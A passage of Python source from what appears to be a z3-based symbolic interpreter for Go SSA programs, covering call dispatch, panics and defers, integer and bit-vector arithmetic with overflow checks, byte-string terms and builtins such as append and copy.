        if tag == 'i:':
            iv = int(body)
            if t.isint():
                b, s = t.intinfo()
                return norm(iv, b, s)
            if t.isfloat():
                return float(iv)
            return iv
        if tag == 's:':
            return bytes.fromhex(body).decode('latin-1')
        if tag == 'f:':
            return float(body)
        raise Inconclusive('constant ' + v)

    # ------------------------------------------------------------------ operands
    def ev(self, fr, op):
        if op is None:
            return None
        k = op[0]
        if k == 'r':
            return fr.regs[op[1]]
        if k == 'c':
            return self.const(op)
        if k == 'p':
            return fr.params[op[1]]
        if k == 'v':
            return fr.freevars[op[1]]
        if k == 'f':
            return Closure(op[1])
        if k == 'g':
            return self.global_ptr(op[1])
        if k == 'b':
            return Builtin(op[1])
        raise Inconclusive('operand ' + str(op))

    def global_ptr(self, name):
        g = self.globals
        c = g.get(name)
        if c is None and self.init_globals is not None and self.globals is not self.init_globals and name in self.init_globals:
            # copy-on-first-use of the initialised global (per path)
            c = copy.deepcopy(self.init_globals[name])
            g[name] = c
        if c is None:
            gd = self.prog.globals.get(name)
            init = self.globals_init.get(name)
            if init is not None:
                val = init(self, name)
            elif gd is not None:
                t = self.prog.types[gd['t']]
                if t.isiface() and gd['pkg'] not in self.body_pkgs():
                    # sentinel value of an environment package (io.EOF, datastore.ErrNotFound, ...)
                    val = Iface(-1, Native('sentinel', name=name))
                else:
                    val = self.zero(t)
            else:
                val = None
            c = [val]
            g[name] = c
        return Ptr(c, 0)

    def body_pkgs(self):
        bp = getattr(self, '_body_pkgs', None)
        if bp is None:
            bp = set(f.pkg for f in self.prog.funcs.values())
            self._body_pkgs = bp
        return bp

    # ------------------------------------------------------------------ running
    def run_inits(self, pkgs):
        """run package initialisers once (leniently: unknown calls yield opaque values)"""
        self.globals = {}
        self.path = PathCtx([], self.cfg['timeout_ms'])
        self.path_instrs = 0
        self.depth = 0
        self.callstack = []
        self.lenient = True
        for p in pkgs:
            fn = self.prog.funcs.get(p + '.init')
            if fn is None:
                continue
            try:
                self.call_function(fn, [], [])
            except (GoPanic, PathEnd, Inconclusive) as ex:
                self.init_error = '%s.init: %s' % (p, ex)
        self.lenient = False
        self.init_globals = self.globals
        self.funcs_executed = {}
        self.stats = Stats()

    def new_path(self, prefix):
        self.path = PathCtx(prefix, self.cfg['timeout_ms'])
        self.globals = {}
        self.depth = 0
        self.callstack = []
        self.path_instrs = 0

    def run_entry(self, name, args=()):
        fn = self.prog.funcs[name]
        return self.call_function(fn, list(args), [])

    # ------------------------------------------------------------------ calls
    def call_value(self, f, args, ins=None, fr=None):
        if f is None:
            raise GoPanic('nil-func', 'call of nil func', ins.get('pos', '') if ins else '')
        if isinstance(f, Closure):
            return self.call_named(f.fn, args, f.bindings, ins)
        if isinstance(f, PyFunc):
            return f.f(self, args)
        if isinstance(f, Builtin):
            return self.builtin(f.name, args, ins, fr)
        raise Inconclusive('call of %r' % (f,))

    def call_named(self, name, args, bindings=(), ins=None):
        base = name.rsplit('.', 1)[-1]
        if base.startswith('verif_'):
            h = self.intrinsics.get(base)
            if h is None:
                raise Inconclusive('no intrinsic ' + base)
            return h(self, args, ins)
        c = self.contracts.get(name)
        if c is not None:
            self.contracts_used.add(name)
            return c(self, args, ins)
        fn = self.prog.funcs.get(name)
        if fn is not None:
            return self.call_function(fn, args, bindings)
        if self.lenient:
            return Native('opaque', name=name)
        raise Inconclusive('no body and no contract for %s (called from %s)' % (name, self.callstack[-1] if self.callstack else '?'))

    def invoke(self, recv, method, args, ins):
        if recv is None:
            raise GoPanic('nil-deref', 'method %s on nil interface' % method, ins.get('pos', ''))
        if not isinstance(recv, Iface):
            raise Inconclusive('invoke on %r' % (recv,))
        v = recv.v
        if isinstance(v, Native):
            h = self.methods.get((v.kind, method))
            if h is None:
                h = self.methods.get(('*', method))
            if h is None:
                if self.lenient:
                    return Native('opaque', name=method)
                raise Inconclusive('no contract for method %s of native %s' % (method, v.kind))
            self.contracts_used.add('%s.%s' % (v.kind, method))
            return h(self, [v] + list(args), ins)
        t = self.prog.types.get(recv.tid)
        if t is None:
            raise Inconclusive('invoke %s on unknown dynamic type %s' % (method, recv.tid))
        fname = t.methods.get(method)
        if fname is None:
            raise Inconclusive('dynamic type %s has no method %s in the dump' % (t.str, method))
        return self.call_named(fname, [v] + list(args), (), ins)

    def call_function(self, fn, args, bindings):
        self.depth += 1
        if self.depth > self.cfg['max_depth']:
            self.depth -= 1
            raise Inconclusive('call depth exceeded in ' + fn.name)
        self.callstack.append(fn.name)
        if fn.name not in self.funcs_executed:
            self.funcs_executed[fn.name] = fn.srchash
        fr = Frame(fn, args, bindings)
        try:
            try:
                res = self.exec_body(fr, 0)
            except GoPanic as gp:
                gp.gotrace.append(fn.name)
                fr.panicking = gp
                self.run_defers(fr)
                if fr.panicking is not None:
                    raise fr.panicking
                # recovered
                if fn.recover >= 0:
                    res = self.exec_body(fr, fn.recover)
                else:
                    res = self.zero_results(fn)
            return res
        finally:
            self.depth -= 1
            self.callstack.pop()

    def zero_results(self, fn):
        rs = [self.zero(self.prog.types[t]) for t in fn.results]
        if len(rs) == 0:
            return None
        if len(rs) == 1:
            return rs[0]
        return tuple(rs)

    def run_defers(self, fr):
        while fr.defers:
            f, args, ins, kind = fr.defers.pop()
            self.cur_frame_for_recover = fr
            try:
                if kind == 'invoke':
                    self.invoke(f, ins['invoke'], args, ins)
                else:
                    self.call_value(f, args, ins, fr)
            except GoPanic as gp2:
                fr.panicking = gp2

    def exec_body(self, fr, start):
        fn = fr.fn
        blocks = fn.blocks
        bi = start
        prev = -1
        ev = self.ev
        while True:
            b = blocks[bi]
            ins_list = b['ins']
            n = len(ins_list)
            k = 0
            # phis are evaluated simultaneously
            if n and ins_list[0]['op'] == 'Phi':
                pidx = b['preds'].index(prev)
                vals = []
                while k < n and ins_list[k]['op'] == 'Phi':
                    vals.append((ins_list[k]['r'], ev(fr, ins_list[k]['edges'][pidx])))
                    k += 1
                for r, v in vals:
                    fr.regs[r] = v
            self.path_instrs += n
            if self.path_instrs > self.cfg['max_instrs']:
                raise Inconclusive('instruction budget exceeded')
            nxt = None
            while k < n:
                ins = ins_list[k]
                k += 1
                op = ins['op']
                h = DISPATCH.get(op)
                if h is None:
                    raise Inconclusive('instruction %s' % op)
                if op == 'If':
                    c = ev(fr, ins['x'])
                    c = simp_bool(c)
                    ua = self.cfg.get('unwind_all')
                    if ua:
                        key2 = (bi, 'all')
                        cnt2 = fr.symvisits.get(key2, 0) + 1
                        fr.symvisits[key2] = cnt2
                        if cnt2 > ua:
                            raise Unwind('%s block %d (%s) [all visits]' % (fn.name, bi, ins.get('pos', '')))
                    if isinstance(c, bool):
                        nxt = b['succs'][0 if c else 1]
                    else:
                        key = (bi, 'if')
                        cnt = fr.symvisits.get(key, 0) + 1
                        fr.symvisits[key] = cnt
                        if cnt > self.cfg['unwind']:
                            raise Unwind('%s block %d (%s)' % (fn.name, bi, ins.get('pos', '')))
                        t = self.fork_bool(c, fn.name + ':' + str(bi))
                        nxt = b['succs'][0 if t else 1]
                    break
                if op == 'Jump':
                    nxt = b['succs'][0]
                    break
                if op == 'Return':
                    rs = [ev(fr, x) for x in ins['results']]
                    if len(rs) == 0:
                        return None
                    if len(rs) == 1:
                        return rs[0]
                    return tuple(rs)
                if op == 'Panic':
                    v = ev(fr, ins['x'])
                    raise GoPanic('panic', v, ins.get('pos', ''))
                try:
                    r = h(self, fr, ins)
                except Inconclusive:
                    if self.lenient:
                        r = Native('opaque', name=op)
                    else:
                        raise
                if 'r' in ins:
                    fr.regs[ins['r']] = r
            if nxt is None:
                raise Inconclusive('fell off block %d of %s' % (bi, fn.name))
            prev = bi
            bi = nxt

    # ------------------------------------------------------------------ helpers used by instruction handlers
    def int_binop(self, op, x, y, t, yt, pos):
        bits, signed = t.intinfo()
        if is_intmode(x) or is_intmode(y):
            return self.intmode_binop(op, x, y, bits, signed, pos)
        if isinstance(x, int) and isinstance(y, int) and not isinstance(x, bool):
            return self.conc_int_binop(op, x, y, bits, signed, yt, pos)
        # symbolic bit-vector
        if op in ('<<', '>>'):
            ybits, ysigned = yt.intinfo()
            yy = tobv(y, ybits)
            xx = tobv(x, bits)
            if ybits < bits:
                yy = z3.ZeroExt(bits - ybits, yy)
            elif ybits > bits:
                big = z3.UGE(yy, z3.BitVecVal(bits, ybits))
                yy2 = z3.Extract(bits - 1, 0, yy)
                if op == '<<':
                    return simp_int(z3.If(big, z3.BitVecVal(0, bits), xx << yy2), bits, signed)
                sh = (xx >> yy2) if signed else z3.LShR(xx, yy2)
                fill = (xx >> z3.BitVecVal(bits - 1, bits)) if signed else z3.BitVecVal(0, bits)
                return simp_int(z3.If(big, fill, sh), bits, signed)
            if op == '<<':
                return simp_int(xx << yy, bits, signed)
            return simp_int((xx >> yy) if signed else z3.LShR(xx, yy), bits, signed)
        xx, yy = tobv(x, bits), tobv(y, bits)
        if op == '+':
            r = xx + yy
        elif op == '-':
            r = xx - yy
        elif op == '*':
            r = xx * yy
        elif op in ('/', '%'):
            if not isinstance(y, int) or y == 0:
                if self.fork_bool(yy == 0, 'divzero'):
                    raise GoPanic('divide-by-zero', None, pos)
            if op == '/':
                r = (xx / yy) if signed else z3.UDiv(xx, yy)
            else:
                r = z3.SRem(xx, yy) if signed else z3.URem(xx, yy)
        elif op == '&':
            r = xx & yy
        elif op == '|':
            r = xx | yy
        elif op == '^':
            r = xx ^ yy
        elif op == '&^':
            r = xx & ~yy
        elif op == '==':
            return simp_bool(xx == yy)
        elif op == '!=':
            return simp_bool(xx != yy)
        elif op == '<':
            return simp_bool((xx < yy) if signed else z3.ULT(xx, yy))
        elif op == '<=':
            return simp_bool((xx <= yy) if signed else z3.ULE(xx, yy))
        elif op == '>':
            return simp_bool((xx > yy) if signed else z3.UGT(xx, yy))
        elif op == '>=':
            return simp_bool((xx >= yy) if signed else z3.UGE(xx, yy))
        else:
            raise Inconclusive('int binop ' + op)
        return simp_int(r, bits, signed)

    def conc_int_binop(self, op, x, y, bits, signed, yt, pos):
        if op == '+':
            return norm(x + y, bits, signed)
        if op == '-':
            return norm(x - y, bits, signed)
        if op == '*':
            return norm(x * y, bits, signed)
        if op == '/':
            if y == 0:
                raise GoPanic('divide-by-zero', None, pos)
            q = abs(x) // abs(y)
            if (x < 0) != (y < 0):
                q = -q
            return norm(q, bits, signed)
        if op == '%':
            if y == 0:
                raise GoPanic('divide-by-zero', None, pos)
            r = abs(x) % abs(y)
            if x < 0:
                r = -r
            return norm(r, bits, signed)
        if op == '&':
            return norm(x & y, bits, signed)
        if op == '|':
            return norm(x | y, bits, signed)
        if op == '^':
            return norm(x ^ y, bits, signed)
        if op == '&^':
            return norm(x & ~y, bits, signed)
        if op == '<<':
            if y < 0:
                raise GoPanic('negative-shift', None, pos)
            return norm(x << y, bits, signed) if y < bits else 0
        if op == '>>':
            if y < 0:
                raise GoPanic('negative-shift', None, pos)
            if y >= bits:
                return -1 if (signed and x < 0) else 0
            return norm(x >> y, bits, signed)
        if op == '==':
            return x == y
        if op == '!=':
            return x != y
        if op == '<':
            return x < y
        if op == '<=':
            return x <= y
        if op == '>':
            return x > y
        if op == '>=':
            return x >= y
        raise Inconclusive('int binop ' + op)

    def to_intmode(self, v, bits, signed):
        if isinstance(v, int) or is_intmode(v):
            return v
        return z3.BV2Int(v, signed)

    def intmode_binop(self, op, x, y, bits, signed, pos):
        """mathematical-integer arithmetic with a range obligation on every result"""
        x = self.to_intmode(x, bits, signed)
        y = self.to_intmode(y, bits, signed)
        if isinstance(x, int):
            x = z3.IntVal(x)
        if isinstance(y, int):
            y = z3.IntVal(y)
        if op == '==':
            return simp_bool(x == y)
        if op == '!=':
            return simp_bool(x != y)
        if op == '<':
            return simp_bool(x < y)
        if op == '<=':
            return simp_bool(x <= y)
        if op == '>':
            return simp_bool(x > y)
        if op == '>=':
            return simp_bool(x >= y)
        if op == '+':
            r = x + y
        elif op == '-':
            r = x - y
        elif op == '*':
            r = x * y
        elif op in ('/', '%'):
            if self.fork_bool(y == 0, 'divzero'):
                raise GoPanic('divide-by-zero', None, pos)
            # Go truncates toward zero
            ax = z3.If(x >= 0, x, -x)
            ay = z3.If(y >= 0, y, -y)
            q = ax / ay
            if op == '/':
                r = z3.If((x >= 0) == (y >= 0), q, -q)
            else:
                m = ax % ay
                r = z3.If(x >= 0, m, -m)
        else:
            raise Inconclusive('int-mode binop ' + op)
        r = z3.simplify(r)
        lo = -(1 << (bits - 1)) if signed else 0
        hi = (1 << (bits - 1)) - 1 if signed else (1 << bits) - 1
        inrange = z3.And(r >= lo, r <= hi)
        if not self.implied(inrange):
            # outside the stated Int-mode bound: never a pass
            self.path.notes.append('int-mode overflow possible at ' + pos)
            if self.cfg.get('intmode_overflow') == 'assume':
                self.add(inrange)
            else:
                raise Inconclusive('int-mode result may leave the %d-bit range at %s' % (bits, pos))
        if z3.is_int_value(r):
            return r.as_long()
        return r

    def convert_int(self, v, ft, tt):
        fb, fs = ft.intinfo()
        tb, ts = tt.intinfo()
        if isinstance(v, int):
            return norm(v, tb, ts)
        if is_intmode(v):
            lo = -(1 << (tb - 1)) if ts else 0
            hi = (1 << (tb - 1)) - 1 if ts else (1 << tb) - 1
            if not self.implied(z3.And(v >= lo, v <= hi)):
                raise Inconclusive('int-mode conversion may truncate')
            return v
        if tb == fb:
            return v
        if tb < fb:
            return simp_int(z3.Extract(tb - 1, 0, v), tb, ts)
        return simp_int(z3.SignExt(tb - fb, v) if fs else z3.ZeroExt(tb - fb, v), tb, ts)

    # equality of two Go values of static type t
    def equal(self, a, b, t=None):
        if a is None or b is None:
            if a is None and b is None:
                return True
            o = b if a is None else a
            if isinstance(o, TermBytes):
                return False
            if isinstance(o, SliceVal):
                return o.arr is None
            return False
        if isinstance(a, bool) and isinstance(b, bool):
            return a == b
        if isinstance(a, (int, float)) and isinstance(b, (int, float)):
            return a == b
        if isinstance(a, str) and isinstance(b, str):
            return a == b
        if isinstance(a, (str, SymStr)) and isinstance(b, (str, SymStr)):
            return simp_bool(self.str_term(a) == self.str_term(b))
        if isinstance(a, Ptr) or isinstance(b, Ptr):
            return a == b
        if isinstance(a, Iface) and isinstance(b, Iface):
            if isinstance(a.v, Native) and isinstance(b.v, Native):
                return self.native_eq(a.v, b.v)
            if a.tid != b.tid:
                return False
            return self.equal(a.v, b.v, self.prog.types.get(a.tid))
        if isinstance(a, Native) and isinstance(b, Native):
            return self.native_eq(a, b)
        if isinstance(a, (SV, AV)) and isinstance(b, (SV, AV)):
            if len(a) != len(b):
                return False
            return zand(*[self.equal(x, y) for x, y in zip(a, b)])
        if isinstance(a, tuple) and isinstance(b, tuple):
            return zand(*[self.equal(x, y) for x, y in zip(a, b)])
        if is_sym(a) or is_sym(b):
            if isinstance(a, bool) or isinstance(b, bool) or z3.is_bool(a) or z3.is_bool(b):
                return simp_bool(zbool(a) == zbool(b))
            if is_intmode(a) or is_intmode(b):
                bits = (b if is_intmode(a) else a)
                bits = bits.size() if z3.is_bv(bits) else 64
                return simp_bool(self.to_intmode(a, bits, True) == self.to_intmode(b, bits, True))
            bits = a.size() if z3.is_bv(a) else b.size()
            return simp_bool(tobv(a, bits) == tobv(b, bits))
        if isinstance(a, (Closure, Chan, MapVal, PyFunc)) or isinstance(b, (Closure, Chan, MapVal, PyFunc)):
            return a is b
        raise Inconclusive('equality of %r and %r' % (a, b))

    def native_eq(self, a, b):
        if a is b:
            return True
        ta, tb = getattr(a, 't', None), getattr(b, 't', None)
        if a.kind == b.kind and ta is not None and tb is not None:
            return simp_bool(ta == tb)
        return False

    def str_term(self, s):
        if isinstance(s, SymStr):
            return s.t
        return T.lit_bytes(s.encode('latin-1'))

    def bytes_term(self, b):
        """Term of a []byte value (nil and empty both map to the empty literal)"""
        if b is None:
            return T.lit_bytes(b'')
        if isinstance(b, TermBytes):
            return b.t
        if isinstance(b, SliceVal):
            return self.pack(b.elems())
        if isinstance(b, AV):
            return self.pack(list(b))
        if isinstance(b, (str, SymStr)):
            return self.str_term(b)
        raise Inconclusive('bytes_term of %r' % (b,))

    def pack(self, elems):
        """vector of byte values -> Term; runs byteAt(x,0..blen(x)-1) are recognised as x (segments are concatenated)"""
        n = len(elems)
        if n == 0:
            return T.lit_bytes(b'')
        segs = []
        i = 0
        plain = []

        def flush():
            if plain:
                try:
                    segs.append(T.pack_bits(list(plain)))
                except ValueError as ex:
                    raise Inconclusive(str(ex))
                del plain[:]
        while i < n:
            e = elems[i]
            if is_sym(e) and z3.is_app(e) and e.decl().name() == 'byteAt' and z3.is_int_value(e.arg(1)) and e.arg(1).as_long() == 0:
                x = e.arg(0)
                j = 1
                while i + j < n:
                    f = elems[i + j]
                    if is_sym(f) and z3.is_app(f) and f.decl().name() == 'byteAt' and f.arg(0).eq(x) and z3.is_int_value(f.arg(1)) and f.arg(1).as_long() == j:
                        j += 1
                    else:
                        break
                if self.implied(T.blen(x) == j):
                    flush()
                    segs.append(x)
                    i += j
                    continue
                if j == n and i == 0:
                    return self.mk_sub(x, 0, j)
            plain.append(e)
            i += 1
        flush()
        t = segs[0]
        for s2 in segs[1:]:
            t = self.mk_cat(t, s2)
        return t

    def mk_sub(self, x, off, n):
        t = T.app('sub', x, T.Term.bits(z3.IntVal(8), z3.ZeroExt(T.BW - 64, tobv(off, 64)) if not isinstance(off, int) else z3.BitVecVal(off, T.BW)),
                  T.Term.bits(z3.IntVal(8), z3.BitVecVal(n, T.BW)))
        self.add(T.blen(t) == n)
        return t

    def blen_of(self, t):
        """length (int or z3 Int) of a term"""
        b = T.concrete_bytes(t)
        if b is not None:
            return len(b)
        if z3.is_app(t) and t.decl().name() == 'bits' and z3.is_int_value(t.arg(0)):
            return t.arg(0).as_long()
        return T.blen(t)

    def byte_at(self, t, i):
        b = T.concrete_bytes(t)
        if b is not None and isinstance(i, int):
            return b[i]
        if z3.is_app(t) and t.decl().name() == 'bits' and isinstance(i, int):
            v = t.arg(1)
            hi = T.BW - 1 - 8 * i
            return simp_int(z3.Extract(hi, hi - 7, v), 8, False)
        return T.byteAt(t, z3.IntVal(i) if isinstance(i, int) else i)

    def vec_of(self, b, label='bytes'):
        """python list of byte values of a []byte/string value (length is concretised)"""
        if b is None:
            return []
        if isinstance(b, SliceVal):
            return b.elems()
        if isinstance(b, str):
            return list(b.encode('latin-1'))
        if isinstance(b, (TermBytes, SymStr)):
            n = self.len_of(b)
            n = self.concretize_len(n, label)
            return [self.byte_at(b.t, i) for i in range(n)]
        raise Inconclusive('vec_of %r' % (b,))

    def concretize_len(self, n, label):
        if isinstance(n, int):
            return n
        return self.concretize(n, 'len:' + label, maxn=self.cfg.get('max_len_split', 40))

    def len_of(self, v):
        if v is None:
            return 0
        if isinstance(v, SliceVal):
            return v.len
        if isinstance(v, str):
            return len(v)
        if isinstance(v, (TermBytes, SymStr)):
            return self.blen_of(v.t)
        if isinstance(v, MapVal):
            return len(v.items)
        if isinstance(v, AV):
            return len(v)
        if isinstance(v, Chan):
            return len(v.buf)
        if isinstance(v, Ptr):  # pointer to array
            return len(v.load())
        raise Inconclusive('len of %r' % (v,))

    def int_value(self, n, bits=64, signed=True):
        """length (possibly z3 Int) -> Go int value: z3 Int lengths are kept in Int mode"""
        return n

    # map helpers
    def map_find(self, m, key, label='map'):
        """index of entry equal to key, or -1; forks on symbolic equality"""
        for i, (k, _) in enumerate(m.items):
            c = self.equal(k, key)
            if c is True:
                return i
            if c is False:
                continue
            if self.fork_bool(c, label):
                return i
        return -1

    # ------------------------------------------------------------------ builtins
    def builtin(self, name, args, ins, fr):
        if name == 'len':
            return self.len_of(args[0])
        if name == 'cap':
            v = args[0]
            if v is None:
                return 0
            if isinstance(v, SliceVal):
                return v.cap
            if isinstance(v, TermBytes):
                return self.blen_of(v.t)
            if isinstance(v, Chan):
                return v.cap
            return self.len_of(v)
        if name == 'append':
            return self.do_append(args[0], args[1], ins)
        if name == 'copy':
            return self.do_copy(args[0], args[1], ins)
        if name == 'delete':
            m, k = args
            if m is None:
                return None
            i = self.map_find(m, k)
            if i >= 0:
                del m.items[i]
            return None
        if name == 'recover':
            # valid only when called directly by a deferred function: approximated by "nearest panicking frame"
            f = getattr(self, 'cur_frame_for_recover', None)
            if f is not None and f.panicking is not None:
                gp = f.panicking
                f.panicking = None
                f.recovered = True
                v = gp.value
                if not isinstance(v, Iface) and v is not None:
                    v = Iface(-2, Native('panicvalue', value=v))
                if v is None:
                    v = Iface(-2, Native('runtime-error', value=gp.kind))
                return v
            return None
        if name in ('print', 'println'):
            return None
        if name == 'close':
            ch = args[0]
            if ch is None:
                raise GoPanic('close-nil-chan', None, ins.get('pos', ''))
            h = self.contracts.get('builtin.close')
            if h:
                return h(self, args, ins)
            if ch.closed:
                raise GoPanic('close-closed-chan', None, ins.get('pos', ''))
            ch.closed = True
            return None
        if name in ('min', 'max'):
            t = self.prog.types[ins['t']]
            r = args[0]
            for a in args[1:]:
                c = self.int_binop('<' if name == 'min' else '>', a, r, t, t, '')
                if isinstance(c, bool):
                    r = a if c else r
                elif is_intmode(a) or is_intmode(r):
                    r = z3.If(c, self.to_intmode(a, 64, True) if not isinstance(a, int) else z3.IntVal(a),
                              self.to_intmode(r, 64, True) if not isinstance(r, int) else z3.IntVal(r))
                else:
                    bits, _ = t.intinfo()
                    r = z3.If(c, tobv(a, bits), tobv(r, bits))
            return r
        if name == 'ssa:wrapnilchk':
            if args[0] is None:
                raise GoPanic('nil-deref', 'wrapnilchk', ins.get('pos', ''))
            return args[0]
        if name == 'clear':
            v = args[0]
            if isinstance(v, MapVal):
                v.items = []
            return None
        raise Inconclusive('builtin ' + name)

    def do_append(self, s, more, ins):
        t = self.prog.types[ins['t']] if ins and 't' in ins else None
        if more is None or (isinstance(more, SliceVal) and more.len == 0) or more == '':
            return s
        if isinstance(s, TermBytes) or isinstance(more, (TermBytes, SymStr)):
            a = self.bytes_term(s)
            b = self.bytes_term(more)
            return TermBytes(self.mk_cat(a, b))
        if isinstance(more, str):
            add = list(more.encode('latin-1'))
        else:
            add = [copyval(x) for x in more.elems()]
        if s is None:
            arr = AV(add)
            return SliceVal(arr, 0, len(add), len(add))
        n = s.len + len(add)
        if n <= s.cap:
            for i, x in enumerate(add):
                s.arr[s.off + s.len + i] = x
            return SliceVal(s.arr, s.off, n, s.cap)
        ncap = max(2 * s.cap, n)
        zero = self.zero(t.under().elemt()) if t is not None else None
        arr = AV([copyval(x) for x in s.elems()] + add + [copyval(zero) for _ in range(ncap - n)])
        return SliceVal(arr, 0, n, ncap)

    def mk_cat(self, a, b):
        ca, cb = T.concrete_bytes(a), T.concrete_bytes(b)
        if ca is not None and cb is not None:
            return T.lit_bytes(ca + cb)
        if ca == b'':
            return b
        if cb == b'':
            return a
        t = T.app('cat', a, b)
        la, lb = self.blen_of(a), self.blen_of(b)
        self.add(T.blen(t) == la + lb)
        return t

    def do_copy(self, dst, src, ins):
        if dst is None or src is None:
            return 0
        if isinstance(dst, TermBytes):
            raise Inconclusive('copy into opaque bytes')
        sv = self.vec_of(src, 'copy-src')
        n = min(dst.len, len(sv))
        vals = [copyval(x) for x in sv[:n]]
        for i in range(n):
            dst.arr[dst.off + i] = vals[i]
        return n


class Unwind(PathEnd):
    pass


# ---------------------------------------------------------------------- instruction handlers
def i_alloc(I, fr, ins):
    t = I.prog.types[ins['elem']]
    return Ptr([I.zero(t)], 0)


def i_binop(I, fr, ins):
    op = ins['bop']
    x = I.ev(fr, ins['x'])
    y = I.ev(fr, ins['y'])
    xt = I.prog.types[ins['xt']]
    yt = I.prog.types[ins['yt']]
    pos = ins.get('pos', '')
    if xt.isint() and (isinstance(x, int) or is_sym(x)) and not isinstance(x, bool):
        return I.int_binop(op, x, y, xt, yt, pos)
    if op == '==':
        return I.equal(x, y, xt)
    if op == '!=':
        return znot(I.equal(x, y, xt))
    if xt.isstring():
        if op == '+':
            if isinstance(x, str) and isinstance(y, str):
                return x + y
            return SymStr(I.mk_cat(I.str_term(x), I.str_term(y)))
        if isinstance(x, str) and isinstance(y, str):
            return {'<': x < y, '<=': x <= y, '>': x > y, '>=': x >= y}[op]
        raise Inconclusive('string comparison of symbolic strings')
    if xt.isfloat():
        if isinstance(x, (int, float)) and isinstance(y, (int, float)):
            if op == '+':
                return x + y
            if op == '-':
                return x - y
            if op == '*':
                return x * y
            if op == '/':
                return x / y if y != 0 else float('inf')
            return {'<': x < y, '<=': x <= y, '>': x > y, '>=': x >= y}[op]
        h = I.contracts.get('float.binop')
        if h:
            return h(I, [op, x, y], ins)
        raise Inconclusive('symbolic float arithmetic')
    if xt.isbool():
        if op == '&':
            return zand(x, y)
        if op == '|':
            return zor(x, y)
    raise Inconclusive('binop %s on %s' % (op, xt.str))


def i_unop(I, fr, ins):
    op = ins['uop']
    x = I.ev(fr, ins['x'])
    if op == '*':
        if x is None:
            raise GoPanic('nil-deref', 'load through nil pointer', ins.get('pos', ''))
        if not isinstance(x, Ptr):
            raise Inconclusive('load through %r' % (x,))
        hook = getattr(I, 'shared_load_hook', None)
        if hook is not None:
            handled, val = hook(I, x, ins)
            if handled:
                return val
        return copyval(x.c[x.i])
    if op == '!':
        return znot(x)
    t = I.prog.types[ins['t']]
    if op == '-':
        if t.isfloat():
            return -x
        bits, signed = t.intinfo()
        if isinstance(x, int):
            return norm(-x, bits, signed)
        if is_intmode(x):
            return -x
        return simp_int(-x, bits, signed)
    if op == '^':
        bits, signed = t.intinfo()
        if isinstance(x, int):
            return norm(~x, bits, signed)
        return simp_int(~x, bits, signed)
    if op == '<-':
        h = I.contracts.get('chan.recv')
        if h:
            return h(I, [x, ins.get('commaok', False)], ins)
        raise Inconclusive('channel receive in sequential mode')
    raise Inconclusive('unop ' + op)


def do_call(I, fr, ins):
    args = [I.ev(fr, a) for a in ins['args']]
    if 'invoke' in ins:
        recv = I.ev(fr, ins['recv'])
        return I.invoke(recv, ins['invoke'], args, ins)
    f = I.ev(fr, ins['fn'])
    return I.call_value(f, args, ins, fr)


def i_call(I, fr, ins):
    return do_call(I, fr, ins)


def i_defer(I, fr, ins):
    args = [I.ev(fr, a) for a in ins['args']]
    if 'invoke' in ins:
        fr.defers.append((I.ev(fr, ins['recv']), args, ins, 'invoke'))
    else:
        fr.defers.append((I.ev(fr, ins['fn']), args, ins, 'call'))
    return None


def i_rundefers(I, fr, ins):
    I.run_defers(fr)
    if fr.panicking is not None:
        gp = fr.panicking
        fr.panicking = None
        raise gp
    return None


def i_go(I, fr, ins):
    args = [I.ev(fr, a) for a in ins['args']]
    h = I.contracts.get('go')
    if h is None:
        raise Inconclusive('go statement in sequential mode')
    if 'invoke' in ins:
        recv = I.ev(fr, ins['recv'])
        return h(I, [('invoke', recv, ins['invoke']), args], ins)
    return h(I, [I.ev(fr, ins['fn']), args], ins)


def i_changetype(I, fr, ins):
    return I.ev(fr, ins['x'])


def i_convert(I, fr, ins):
    x = I.ev(fr, ins['x'])
    ft = I.prog.types[ins['xt']]
    tt = I.prog.types[ins['t']]
    fu, tu = ft.under(), tt.under()
    if ft.isint() and tt.isint():
        return I.convert_int(x, ft, tt)
    if ft.isint() and tt.isfloat():
        if isinstance(x, int):
            return float(x)
        h = I.contracts.get('convert.int2float')
        if h:
            return h(I, [x], ins)
        raise Inconclusive('symbolic int -> float')
    if ft.isfloat() and tt.isint():
        if isinstance(x, (int, float)):
            b, s = tt.intinfo()
            return norm(int(x), b, s)
        h = I.contracts.get('convert.float2int')
        if h:
            return h(I, [x], ins)
        raise Inconclusive('symbolic float -> int')
    if ft.isfloat() and tt.isfloat():
        return x
    if tt.isstring():
        if ft.isint():
            if isinstance(x, int):
                return chr(x).encode('utf-8').decode('latin-1')
            raise Inconclusive('string(symbolic rune)')
        if fu.kind == 'slice':
            if x is None:
                return ''
            if isinstance(x, TermBytes):
                b = T.concrete_bytes(x.t)
                if b is not None:
                    return b.decode('latin-1')
                return SymStr(x.t)
            el = x.elems()
            if all(isinstance(e, int) for e in el):
                if fu.elemt().isint() and fu.elemt().intinfo()[0] == 8:
                    return bytes(el).decode('latin-1')
                return ''.join(chr(e) for e in el).encode('utf-8').decode('latin-1')
            return SymStr(I.pack(el))
    if ft.isstring() and tu.kind == 'slice':
        if isinstance(x, SymStr):
            return TermBytes(x.t)
        if tu.elemt().intinfo()[0] == 8:
            el = list(x.encode('latin-1'))
        else:
            el = [ord(c) for c in x.encode('latin-1').decode('utf-8')]
        return SliceVal(AV(el), 0, len(el), len(el))
    if fu.kind == 'slice' and tu.kind == 'array':
        v = I.vec_of(x, 'slice->array')
        if len(v) < tu.len:
            raise GoPanic('slice-to-array', 'length', ins.get('pos', ''))
        return AV(copyval(e) for e in v[:tu.len])
    if fu.kind == 'slice' and tu.kind == 'pointer':
        return i_slicetoarrayptr(I, fr, ins)
    if fu.kind == tu.kind:
        return x
    if tu.kind == 'basic' and tu.name == 'unsafe.Pointer' or fu.kind == 'basic' and fu.name == 'unsafe.Pointer':
        return x
    raise Inconclusive('convert %s -> %s' % (ft.str, tt.str))


def i_changeinterface(I, fr, ins):
    return I.ev(fr, ins['x'])


def i_makeinterface(I, fr, ins):
    x = I.ev(fr, ins['x'])
    if isinstance(x, Native) and getattr(x, 'as_iface', False):
        return Iface(ins['xt'], x)
    return Iface(ins['xt'], copyval(x))


def implements(I, iface, at):
    """does the dynamic type of iface implement interface type `at`?"""
    need = at.under().imeths
    if not need:
        return True
    v = iface.v
    if isinstance(v, Native):
        t = I.prog.types.get(iface.tid)
        for m in need:
            if (v.kind, m) in I.methods:
                continue
            if t is not None and m in t.methods:
                continue
            return False
        return True
    t = I.prog.types.get(iface.tid)
    if t is None:
        return False
    return all(m in t.methods for m in need)


def i_typeassert(I, fr, ins):
    x = I.ev(fr, ins['x'])
    at = I.prog.types[ins['at']]
    commaok = ins['commaok']
    ok = False
